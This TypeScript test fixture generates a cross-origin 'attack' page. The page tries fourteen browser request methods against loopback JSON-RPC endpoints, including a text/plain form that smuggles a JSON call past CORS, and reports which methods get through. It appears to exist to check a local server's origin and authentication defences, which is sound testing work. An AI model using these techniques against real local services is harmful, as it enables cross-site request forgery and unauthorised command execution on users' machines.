/**
 * A page of another origin that tries every way a browser has to reach a server on loopback, and says in its title and
 * text what became of each. `secret` is what a page must never have: here it has it all the same.
 */

/** What one page tries, in order, by name. */
export const attempts = [
  "fetch, simple POST",
  "fetch, simple POST, no-cors",
  "fetch, JSON without a secret",
  "fetch, JSON with the secret",
  "fetch, JSON as text/plain, no-cors",
  "fetch, GET event stream with the secret",
  "XMLHttpRequest, JSON with the secret",
  "EventSource",
  "WebSocket",
  "beacon",
  "form, text/plain",
  "form, urlencoded",
  "image",
  "script",
] as const;

/** @param targets addresses of endpoints to attack @param call a valid JSON-RPC call */
export function attackPage(targets: readonly string[], secret: string, call: string): string {
  return `<!doctype html><meta charset="utf-8"><title>attack</title><pre id="out">running</pre>
<script>
const targets = ${JSON.stringify(targets)}, secret = ${JSON.stringify(secret)}, call = ${JSON.stringify(call)};
const results = [];
const within = (promise) => Promise.race([promise, new Promise((ok) => setTimeout(ok, 1500, "no answer"))]);
const asked = (url, init) => fetch(url, init).then(async (r) => r.type + " " + r.status + " " + (await r.text()), (e) => "blocked " + e.name);
const json = { "Content-Type": "application/json", Accept: "application/json, text/event-stream" };
const withSecret = { ...json, Authorization: "Bearer " + secret };
const framed = (enctype, url) => new Promise((ok) => {
  const frame = document.body.appendChild(document.createElement("iframe"));
  frame.name = "f" + Math.random();
  frame.onload = () => setTimeout(ok, 100, "loaded");
  const form = document.body.appendChild(document.createElement("form"));
  Object.assign(form, { method: "POST", action: url, enctype, target: frame.name });
  const field = form.appendChild(document.createElement("input"));
  // name=value in text/plain: the equals sign goes into a member that nobody reads
  field.name = call.slice(0, -1) + ',"x":"'; field.value = '"}';
  form.submit();
});
const element = (tag, url) => new Promise((ok) => {
  const one = document.createElement(tag);
  one.onload = () => ok("loaded"); one.onerror = () => ok("blocked");
  one.src = url; document.body.append(one);
});
const tries = {
  "fetch, simple POST": (u) => asked(u, { method: "POST", body: call }),
  "fetch, simple POST, no-cors": (u) => asked(u, { method: "POST", body: call, mode: "no-cors" }),
  "fetch, JSON without a secret": (u) => asked(u, { method: "POST", body: call, headers: json }),
  "fetch, JSON with the secret": (u) => asked(u, { method: "POST", body: call, headers: withSecret }),
  "fetch, JSON as text/plain, no-cors": (u) => asked(u, { method: "POST", body: new Blob([call], { type: "text/plain" }), mode: "no-cors", credentials: "include" }),
  "fetch, GET event stream with the secret": (u) => asked(u, { headers: { ...withSecret, Accept: "text/event-stream" } }),
  "XMLHttpRequest, JSON with the secret": (u) => new Promise((ok) => {
    const x = new XMLHttpRequest();
    x.open("POST", u);
    for (const [name, value] of Object.entries(withSecret)) x.setRequestHeader(name, value);
    x.onload = () => ok("answered " + x.status); x.onerror = () => ok("blocked"); x.send(call);
  }),
  EventSource: (u) => new Promise((ok) => {
    const s = new EventSource(u);
    s.onopen = () => ok("open"); s.onerror = () => { s.close(); ok("blocked"); };
  }),
  WebSocket: (u) => new Promise((ok) => {
    const s = new WebSocket(u.replace("http", "ws"));
    s.onopen = () => ok("open"); s.onerror = () => ok("blocked");
  }),
  beacon: async (u) => "queued " + navigator.sendBeacon(u, call),
  "form, text/plain": (u) => framed("text/plain", u),
  "form, urlencoded": (u) => framed("application/x-www-form-urlencoded", u),
  image: (u) => element("img", u),
  script: (u) => element("script", u),
};
(async () => {
  for (const target of targets)
    for (const [name, attempt] of Object.entries(tries))
      results.push({ target, name, result: await within(attempt(target)).catch((e) => "threw " + e.name) });
  document.getElementById("out").textContent = JSON.stringify(results);
  await fetch("/done", { method: "POST", body: JSON.stringify(results) });
})();
</script>`;
}
